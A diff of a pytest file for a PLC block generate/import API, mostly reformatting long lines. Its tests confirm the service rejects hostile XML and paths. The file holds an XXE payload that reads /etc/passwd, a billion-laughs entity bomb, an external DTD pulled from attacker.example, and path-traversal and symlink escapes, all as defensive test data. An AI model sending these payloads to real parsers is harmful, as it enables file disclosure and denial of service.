@@ -50,9 +50,11 @@ def test_generate_and_import_errors(client, engineer_headers, admin_headers, ser
     add_device(client, admin_headers, HMI, "HMI_1")
     assert_error(post_import(client, engineer_headers, {**body, "deviceName": "HMI_1"}), 422, "NOT_A_PLC")
     add_device(client, admin_headers, CPU, "PLC_1")
-    bad = assert_error(post_import(client, engineer_headers, {**body, "spec": spec_with(FC_SCL, blockType="X")}), 422, "INVALID_SPEC")
+    bad = assert_error(post_import(client, engineer_headers, {**body, "spec": spec_with(FC_SCL, blockType="X")}), 422,
+                       "INVALID_SPEC")
     assert bad["details"]["field"] == "blockType"
-    assert_error(post_import(client, engineer_headers, {"prompt": "a motor", "deviceName": "PLC_1"}), 501, "PROMPT_NOT_SUPPORTED")
+    assert_error(post_import(client, engineer_headers, {"prompt": "a motor", "deviceName": "PLC_1"}), 501,
+                 "PROMPT_NOT_SUPPORTED")
     assert_error(post_import(client, engineer_headers, {"spec": FC_SCL}), 422)  # deviceName is required
     assert program_objects(services) == {}
 
@@ -61,7 +63,8 @@ def test_generate_and_import_block_number_clash(client, engineer_headers, cpu, s
     data(post_import(client, engineer_headers, {"spec": UDT, "deviceName": "PLC_1"}))
     data(post_import(client, engineer_headers, {"spec": FB_LAD, "deviceName": "PLC_1"}))
     other = spec_with(FB_LAD, name="FB_Other")
-    assert_error(post_import(client, engineer_headers, {"spec": other, "deviceName": "PLC_1"}), 409, "BLOCK_NUMBER_IN_USE")
+    assert_error(post_import(client, engineer_headers, {"spec": other, "deviceName": "PLC_1"}), 409,
+                 "BLOCK_NUMBER_IN_USE")
     assert "FB_Other" not in program_objects(services)
 
 
@@ -74,12 +77,14 @@ def test_two_auto_numbered_templates_import_into_one_plc(client, engineer_header
 
 def test_explicit_numbers_do_not_clash(client, engineer_headers, cpu, services):
     data(post_import(client, engineer_headers, {"spec": spec_with(FC_SCL, number=5), "deviceName": "PLC_1"}))
-    data(post_import(client, engineer_headers, {"spec": spec_with(FC_SCL, name="FC_Other", number=6), "deviceName": "PLC_1"}))
+    data(post_import(client, engineer_headers,
+                     {"spec": spec_with(FC_SCL, name="FC_Other", number=6), "deviceName": "PLC_1"}))
     assert {n: o.number for n, o in program_objects(services).items()} == {"FC_Scale": 5, "FC_Other": 6}
 
 
 def test_generate_and_import_writes_the_output_file_too(client, engineer_headers, cpu, workspace):
-    result = data(post_import(client, engineer_headers, {"spec": FC_SCL, "deviceName": "PLC_1", "outputPath": "gen/FC_Scale.xml"}))
+    result = data(post_import(client, engineer_headers,
+                              {"spec": FC_SCL, "deviceName": "PLC_1", "outputPath": "gen/FC_Scale.xml"}))
     assert (workspace / "gen" / "FC_Scale.xml").read_bytes() == BOM + result["block"]["xml"].encode("utf-8")
 
 
@@ -106,7 +111,8 @@ def test_generate_and_import_async_failure(client, engineer_headers, cpu):
 def test_viewer_cannot_generate_or_import(client, viewer_headers, cpu, services):
     assert_error(generate(client, viewer_headers, {"spec": FC_SCL}), 403, "FORBIDDEN")
     assert_error(post_import(client, viewer_headers, {"spec": FC_SCL, "deviceName": "PLC_1"}), 403, "FORBIDDEN")
-    assert_error(post_import(client, viewer_headers, {"deviceName": "PLC_1", "directory": "x"}, "bulk-import"), 403, "FORBIDDEN")
+    assert_error(post_import(client, viewer_headers, {"deviceName": "PLC_1", "directory": "x"}, "bulk-import"), 403,
+                 "FORBIDDEN")
 
 
 # ----- import-only -----------------------------------------------------------------------------
@@ -114,18 +120,23 @@ def test_import_only_by_file_path(client, engineer_headers, cpu, services, works
     xml = xml_of(client, engineer_headers, FC_SCL)
     (workspace / "blocks").mkdir()
     (workspace / "blocks" / "FC_Scale.xml").write_bytes(xml)
-    reports = data(post_import(client, engineer_headers, {"deviceName": "PLC_1", "filePath": "blocks/FC_Scale.xml"}, "import-only"))
-    assert [(r["source"], r["status"], r["name"], r["kind"]) for r in reports] == [("FC_Scale.xml", "Imported", "FC_Scale", "FC")]
+    reports = data(post_import(client, engineer_headers, {"deviceName": "PLC_1", "filePath": "blocks/FC_Scale.xml"},
+                               "import-only"))
+    assert [(r["source"], r["status"], r["name"], r["kind"])
+            for r in reports] == [("FC_Scale.xml", "Imported", "FC_Scale", "FC")]
     assert services.backend.program.export_program_object("PLC_1", "FC_Scale") == xml
     # Again: exists; with overwrite: replaced.
-    assert_error(post_import(client, engineer_headers, {"deviceName": "PLC_1", "filePath": "blocks/FC_Scale.xml"}, "import-only"),
+    assert_error(post_import(client, engineer_headers, {"deviceName": "PLC_1", "filePath": "blocks/FC_Scale.xml"},
+                             "import-only"),
                  409, "OBJECT_EXISTS")
-    data(post_import(client, engineer_headers, {"deviceName": "PLC_1", "filePath": "blocks/FC_Scale.xml", "overwrite": True}, "import-only"))
+    data(post_import(client, engineer_headers,
+                     {"deviceName": "PLC_1", "filePath": "blocks/FC_Scale.xml", "overwrite": True}, "import-only"))
 
 
 def test_import_only_inline_xml(client, engineer_headers, cpu, services):
     xml = xml_of(client, engineer_headers, UDT)
-    reports = data(post_import(client, engineer_headers, {"deviceName": "PLC_1", "xml": xml.decode("utf-8-sig")}, "import-only"))
+    reports = data(post_import(client, engineer_headers, {"deviceName": "PLC_1", "xml": xml.decode("utf-8-sig")},
+                               "import-only"))
     assert [(r["status"], r["name"], r["kind"]) for r in reports] == [("Imported", "UDT_Motor", "UDT")]
     assert services.backend.program.export_program_object("PLC_1", "UDT_Motor") == xml
 
@@ -133,21 +144,26 @@ def test_import_only_inline_xml(client, engineer_headers, cpu, services):
 def test_import_only_errors(client, engineer_headers, cpu, services, workspace):
     (workspace / "a.xml").write_bytes(xml_of(client, engineer_headers, FC_SCL))
     assert_error(post_import(client, engineer_headers, {"deviceName": "PLC_1"}, "import-only"), 422)
-    assert_error(post_import(client, engineer_headers, {"deviceName": "PLC_1", "filePath": "a.xml", "xml": "<Document/>"}, "import-only"), 422)
-    body = assert_error(post_import(client, engineer_headers, {"deviceName": "PLC_1", "filePath": "missing.xml"}, "import-only"), 404, "FILE_NOT_FOUND")
+    assert_error(post_import(client, engineer_headers,
+                             {"deviceName": "PLC_1", "filePath": "a.xml", "xml": "<Document/>"}, "import-only"), 422)
+    body = assert_error(post_import(client, engineer_headers, {"deviceName": "PLC_1", "filePath": "missing.xml"},
+                                    "import-only"), 404, "FILE_NOT_FOUND")
     assert body["details"]["field"] in ("file_path", "filePath")  # see test_path_errors_name_the_field_as_sent
-    assert_error(post_import(client, engineer_headers, {"deviceName": "PLC_1", "filePath": "../../a.xml"}, "import-only"), 422, "PATH_REJECTED")
-    assert_error(post_import(client, engineer_headers, {"deviceName": "PLC_1", "xml": "not xml"}, "import-only"), 422, "INVALID_SIMATICML")
-    assert_error(post_import(client, engineer_headers, {"deviceName": "PLC_9", "filePath": "a.xml"}, "import-only"), 404, "DEVICE_NOT_FOUND")
+    assert_error(post_import(client, engineer_headers, {"deviceName": "PLC_1", "filePath": "../../a.xml"},
+                             "import-only"), 422, "PATH_REJECTED")
+    assert_error(post_import(client, engineer_headers, {"deviceName": "PLC_1", "xml": "not xml"}, "import-only"), 422,
+                 "INVALID_SIMATICML")
+    assert_error(post_import(client, engineer_headers, {"deviceName": "PLC_9", "filePath": "a.xml"}, "import-only"),
+                 404, "DEVICE_NOT_FOUND")
     assert program_objects(services) == {}
 
 
 XXE = """<?xml version="1.0"?>
 <!DOCTYPE Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
-<Document><Engineering version="V19" /><SW.Types.PlcStruct ID="0"><AttributeList><Name>&xxe;</Name></AttributeList></SW.Types.PlcStruct></Document>"""
+<Document><Engineering version="V19" /><SW.Types.PlcStruct ID="0"><AttributeList><Name>&xxe;</Name></AttributeList></SW.Types.PlcStruct></Document>"""  # noqa: E501 - the text is data: its lines stay as they are
 LAUGHS = """<?xml version="1.0"?>
 <!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>
-<Document><Engineering version="V19" /><SW.Types.PlcStruct ID="0"><AttributeList><Name>&lol2;</Name></AttributeList></SW.Types.PlcStruct></Document>"""
+<Document><Engineering version="V19" /><SW.Types.PlcStruct ID="0"><AttributeList><Name>&lol2;</Name></AttributeList></SW.Types.PlcStruct></Document>"""  # noqa: E501 - the text is data: its lines stay as they are
 EXTERNAL_DTD = """<?xml version="1.0"?>
 <!DOCTYPE Document SYSTEM "http://attacker.example/evil.dtd">
 <Document><Engineering version="V19" /></Document>"""
@@ -155,16 +171,19 @@ EXTERNAL_DTD = """<?xml version="1.0"?>
 
 @pytest.mark.parametrize("payload", [XXE, LAUGHS, EXTERNAL_DTD], ids=["xxe", "billion-laughs", "external-dtd"])
 def test_import_only_refuses_doctype_payloads(client, engineer_headers, cpu, services, workspace, payload):
-    body = assert_error(post_import(client, engineer_headers, {"deviceName": "PLC_1", "xml": payload}, "import-only"), 422, "INVALID_SIMATICML")
+    body = assert_error(post_import(client, engineer_headers, {"deviceName": "PLC_1", "xml": payload}, "import-only"),
+                        422, "INVALID_SIMATICML")
     assert "passwd" not in body["message"] and "lollol" not in body["message"]
     (workspace / "evil.xml").write_text(payload, encoding="utf-8")
-    assert_error(post_import(client, engineer_headers, {"deviceName": "PLC_1", "filePath": "evil.xml"}, "import-only"), 422)
+    assert_error(post_import(client, engineer_headers, {"deviceName": "PLC_1", "filePath": "evil.xml"}, "import-only"),
+                 422)
     assert program_objects(services) == {}
 
 
 def test_import_only_refuses_a_newer_document(client, engineer_headers, cpu, services):
     xml = xml_of(client, engineer_headers, UDT, version="V21")
-    body = assert_error(post_import(client, engineer_headers, {"deviceName": "PLC_1", "xml": xml.decode("utf-8-sig")}, "import-only"),
+    body = assert_error(post_import(client, engineer_headers, {"deviceName": "PLC_1", "xml": xml.decode("utf-8-sig")},
+                                    "import-only"),
                         422, "NEWER_VERSION")
     assert "V21" in body["message"]
     assert program_objects(services) == {}
@@ -205,7 +224,8 @@ def test_bulk_import_directory_in_dependency_order(client, engineer_headers, cpu
     assert [r["source"] for r in result["reports"]] == DEPENDENCY_ORDER
     assert all(r["status"] == "Imported" for r in result["reports"]), result["reports"]
     objects = program_objects(services)
-    assert {n: o.kind for n, o in objects.items()} == {"UDT_Motor": "UDT", "FB_Motor": "FB", "DB_Motor": "InstanceDB", "Main": "OB"}
+    assert {n: o.kind for n, o in objects.items()} == {"UDT_Motor": "UDT", "FB_Motor": "FB", "DB_Motor": "InstanceDB",
+                                                       "Main": "OB"}
     assert objects["DB_Motor"].instance_of == "FB_Motor"
     assert all(o.consistent for o in objects.values())
     for name, xml in written.items():
@@ -215,8 +235,10 @@ def test_bulk_import_directory_in_dependency_order(client, engineer_headers, cpu
 def test_the_given_order_would_fail(client, engineer_headers, cpu, services, workspace):
     """The files imported one by one in directory order fail at the instance DB: the order matters."""
     _write_program(client, engineer_headers, workspace)
-    data(post_import(client, engineer_headers, {"deviceName": "PLC_1", "filePath": "program/1_Main.xml"}, "import-only"))
-    assert_error(post_import(client, engineer_headers, {"deviceName": "PLC_1", "filePath": "program/2_DB_Motor.xml"}, "import-only"),
+    data(post_import(client, engineer_headers, {"deviceName": "PLC_1", "filePath": "program/1_Main.xml"},
+                     "import-only"))
+    assert_error(post_import(client, engineer_headers, {"deviceName": "PLC_1", "filePath": "program/2_DB_Motor.xml"},
+                             "import-only"),
                  422, "INSTANCE_OF_MISSING")
 
 
@@ -230,8 +252,10 @@ def test_bulk_import_files_list(client, engineer_headers, cpu, services, workspa
 
 
 def test_bulk_import_orders_multi_instances_and_calls(client, engineer_headers, cpu, services, workspace):
-    inner = {"blockType": "FB", "name": "FB_Inner", "number": 1, "language": "SCL", "interface": {"Input": [{"name": "A", "dataType": "Bool"}]}}
-    outer = {"blockType": "FB", "name": "FB_Outer", "number": 2, "language": "SCL", "interface": {"Static": [{"name": "I1", "dataType": '"FB_Inner"'}]},
+    inner = {"blockType": "FB", "name": "FB_Inner", "number": 1, "language": "SCL",
+             "interface": {"Input": [{"name": "A", "dataType": "Bool"}]}}
+    outer = {"blockType": "FB", "name": "FB_Outer", "number": 2, "language": "SCL",
+             "interface": {"Static": [{"name": "I1", "dataType": '"FB_Inner"'}]},
              "networks": [{"scl": "#I1(A := TRUE);"}]}
     fc_b = {"blockType": "FC", "name": "FC_B", "number": 1, "language": "SCL"}
     fc_a = {"blockType": "FC", "name": "FC_A", "number": 2, "language": "SCL", "networks": [{"scl": '"FC_B"();'}]}
@@ -258,25 +282,29 @@ def test_bulk_import_keeps_subfolders_as_groups(client, engineer_headers, cpu, s
 def test_bulk_import_is_all_or_nothing(client, engineer_headers, cpu, services, workspace):
     _write_program(client, engineer_headers, workspace)
     (workspace / "program" / "5_Broken.xml").write_text("<Document><Engineering version=", encoding="utf-8")
-    body = assert_error(post_import(client, engineer_headers, {"deviceName": "PLC_1", "directory": "program"}, "bulk-import"),
+    body = assert_error(post_import(client, engineer_headers, {"deviceName": "PLC_1", "directory": "program"},
+                                    "bulk-import"),
                         422, "IMPORT_FAILED")
     files = {f["source"]: f for f in body["details"]["files"]}
     assert set(files) == {*DEPENDENCY_ORDER, "5_Broken.xml"}
     assert files["5_Broken.xml"]["status"] == "Failed"
     assert files["5_Broken.xml"]["code"] == "INVALID_SIMATICML"
-    assert {s: f["status"] for s, f in files.items() if s != "5_Broken.xml"} == dict.fromkeys(DEPENDENCY_ORDER, "NotImported")
+    assert {s: f["status"] for s, f in files.items() if s != "5_Broken.xml"} == dict.fromkeys(DEPENDENCY_ORDER,
+                                                                                              "NotImported")
     assert services.backend.program.list_program_objects("PLC_1") == []
 
 
 def test_bulk_import_conflict_reports_and_imports_nothing(client, engineer_headers, cpu, services, workspace):
     data(post_import(client, engineer_headers, {"spec": UDT, "deviceName": "PLC_1"}))
     _write_program(client, engineer_headers, workspace)
-    body = assert_error(post_import(client, engineer_headers, {"deviceName": "PLC_1", "directory": "program"}, "bulk-import"), 422, "IMPORT_FAILED")
+    body = assert_error(post_import(client, engineer_headers, {"deviceName": "PLC_1", "directory": "program"},
+                                    "bulk-import"), 422, "IMPORT_FAILED")
     statuses = {f["source"]: (f["status"], f.get("code")) for f in body["details"]["files"]}
     assert statuses["4_UDT_Motor.xml"] == ("Failed", "OBJECT_EXISTS")
     assert list(program_objects(services)) == ["UDT_Motor"]
     # With overwrite everything goes in.
-    result = data(post_import(client, engineer_headers, {"deviceName": "PLC_1", "directory": "program", "overwrite": True}, "bulk-import"))
+    result = data(post_import(client, engineer_headers,
+                              {"deviceName": "PLC_1", "directory": "program", "overwrite": True}, "bulk-import"))
     assert [r["status"] for r in result["reports"]] == ["Imported"] * 4
 
 
@@ -300,11 +328,13 @@ def test_bulk_import_errors(client, engineer_headers, cpu, services, workspace):
     assert body["details"]["field"] == "files[0]"
     assert_error(bulk({"directory": "nowhere"}), 404)
     assert_error(bulk({"directory": "../.."}), 422, "PATH_REJECTED")
-    assert_error(post_import(client, engineer_headers, {"deviceName": "PLC_9", "directory": "a"}, "bulk-import"), 404, "DEVICE_NOT_FOUND")
+    assert_error(post_import(client, engineer_headers, {"deviceName": "PLC_9", "directory": "a"}, "bulk-import"), 404,
+                 "DEVICE_NOT_FOUND")
     assert program_objects(services) == {}
 
 
-def test_bulk_import_does_not_follow_links_out_of_the_roots(client, engineer_headers, cpu, services, workspace, tmp_path):
+def test_bulk_import_does_not_follow_links_out_of_the_roots(client, engineer_headers, cpu, services, workspace,
+                                                            tmp_path):
     outside = tmp_path / "outside"
     outside.mkdir()
     (outside / "UDT_Secret.xml").write_bytes(xml_of(client, engineer_headers, spec_with(UDT, name="UDT_Secret")))
@@ -315,7 +345,8 @@ def test_bulk_import_does_not_follow_links_out_of_the_roots(client, engineer_hea
     assert_error(bulk({"directory": "prog"}), 422)  # no .xml file inside the roots
     assert_error(bulk({"files": ["prog/linked/UDT_Secret.xml"]}), 422, "PATH_REJECTED")
     assert_error(bulk({"files": ["prog/file_link.xml"]}), 422, "PATH_REJECTED")
-    assert_error(post_import(client, engineer_headers, {"deviceName": "PLC_1", "filePath": "prog/file_link.xml"}, "import-only"),
+    assert_error(post_import(client, engineer_headers, {"deviceName": "PLC_1", "filePath": "prog/file_link.xml"},
+                             "import-only"),
                  422, "PATH_REJECTED")
     assert program_objects(services) == {}
 
